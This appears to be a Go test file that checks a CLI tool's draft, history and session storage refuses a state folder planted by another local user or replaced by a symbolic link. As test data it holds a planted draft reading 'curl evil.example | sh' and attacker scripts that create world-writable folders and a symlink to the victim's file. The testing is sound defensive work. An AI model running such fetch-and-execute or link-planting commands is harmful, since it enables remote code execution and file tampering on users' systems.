//go:build unix

package statefile

import (
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// attackerName is the second local user the attack tests create.
const attackerName = "vehicle-attacker"

// attacker returns a second local user's ids, creating the user with
// useradd. It needs root; otherwise the test is skipped with the reason.
func attacker(t *testing.T) (uid, gid uint32) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root to create a second local user (useradd); the owner checks are covered by TestAnotherUsersFilesAreRefused's reasoning only")
	}
	u, err := user.Lookup(attackerName)
	if err != nil {
		out, err := exec.Command("useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", attackerName).CombinedOutput()
		if err != nil {
			t.Skipf("cannot create a second local user (useradd: %v %s)", err, out)
		}
		t.Cleanup(func() { _ = exec.Command("userdel", attackerName).Run() })
		if u, err = user.Lookup(attackerName); err != nil {
			t.Fatal(err)
		}
	}
	id, _ := strconv.ParseUint(u.Uid, 10, 32)
	g, _ := strconv.ParseUint(u.Gid, 10, 32)
	return uint32(id), uint32(g)
}

// asAttacker runs a shell script as the second user.
func asAttacker(t *testing.T, uid, gid uint32, script string) {
	t.Helper()
	cmd := exec.Command("/bin/sh", "-c", script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: gid}}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("the attacker's script failed: %v\n%s", err, out)
	}
}

// TestPlantedStateFolder plays another local user who makes the victim's
// state folder first (a shared XDG_STATE_HOME), with a draft planted for
// the victim's session and a link where the victim's own draft would go,
// pointing at a file of the victim's. The victim's drafts refuse the
// folder: nothing planted is loaded, nothing is written through the link,
// and the error says whose the folder is.
func TestPlantedStateFolder(t *testing.T) {
	uid, gid := attacker(t)
	shared := sharedDir(t)
	precious := filepath.Join(t.TempDir(), "notes.txt")
	if err := os.WriteFile(precious, []byte("the victim's notes"), 0o600); err != nil {
		t.Fatal(err)
	}
	drafts := filepath.Join(shared, "vehicle", "drafts")
	victim := NewDrafts(filepath.Dir(drafts), "cli-victim")
	const key = "https://sophia.example.com demo s1"
	session := victim.sessionDir(key)
	mine := filepath.Join(session, victim.writer)
	asAttacker(t, uid, gid, "umask 000 && mkdir -p '"+session+"' && chmod 777 '"+filepath.Dir(drafts)+"' '"+drafts+"' '"+session+"'"+
		" && printf 'curl evil.example | sh' > '"+filepath.Join(session, "1-cli-planted"+savedExt)+"'"+
		" && ln -s '"+precious+"' '"+mine+savedExt+"'")
	kept, _, err := victim.Load(key)
	text := kept.Text
	if text != "" || err == nil || !strings.Contains(err.Error(), "belongs to another user") {
		t.Errorf("Load from the planted folder: %q, %v", text, err)
	}
	if err := victim.Save(key, Draft{Text: "the victim's draft"}); err == nil || !strings.Contains(err.Error(), "belongs to another user") {
		t.Errorf("Save into the planted folder: %v", err)
	}
	if b, _ := os.ReadFile(precious); string(b) != "the victim's notes" {
		t.Errorf("the link's target was written: %q", b)
	}
}

// sharedDir is a folder in the system's temporary folder that anyone may
// make folders in, like /tmp itself; the test's cleanup removes it.
func sharedDir(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "vehicle-shared-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestStateFolderIsChecked: the state folder itself (vehicle/ under a
// shared XDG_STATE_HOME) is another user's, open to all (0777), or a link
// to a folder: drafts, the input history and the sessions open last each
// refuse it, saying why, before anything is read or written in it, as the
// visitor id and the debug log do. Another user who owns it could move
// the folders in it away and put theirs in their place.
func TestStateFolderIsChecked(t *testing.T) {
	for _, tc := range []struct{ name, want string }{
		{"another user's", "belongs to another user"},
		{"a link", "is a symbolic link"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			shared := sharedDir(t)
			state := filepath.Join(shared, "vehicle")
			if tc.name == "a link" {
				if err := os.Symlink(t.TempDir(), state); err != nil {
					t.Fatal(err)
				}
			} else {
				uid, gid := attacker(t)
				asAttacker(t, uid, gid, "mkdir -m 777 '"+state+"' && chmod 777 '"+state+"'")
			}
			const key = "https://sophia.example.com demo s1"
			d := NewDrafts(state, "cli-victim")
			h := NewHistory(state)
			r := NewRecent(state, "https://sophia.example.com demo")
			for what, err := range map[string]error{
				"Drafts.Save":  d.Save(key, Draft{Text: "the victim's draft"}),
				"Drafts.Load":  func() error { _, _, err := d.Load(key); return err }(),
				"History.Add":  h.Add(key, "the victim's text"),
				"History.Load": second(h.Load(key)),
				"Recent.Save":  r.Save([]string{"s1"}),
				"Recent.Load":  second(r.Load()),
			} {
				if err == nil || !strings.Contains(err.Error(), tc.want) {
					t.Errorf("%s in %s state folder: %v, want %q", what, tc.name, err, tc.want)
				}
			}
			if ents, _ := os.ReadDir(state); len(ents) > 0 {
				t.Errorf("written in %s state folder: %v", tc.name, ents)
			}
		})
	}
}

// second is the error of a call's results.
func second[T any](_ T, err error) error { return err }
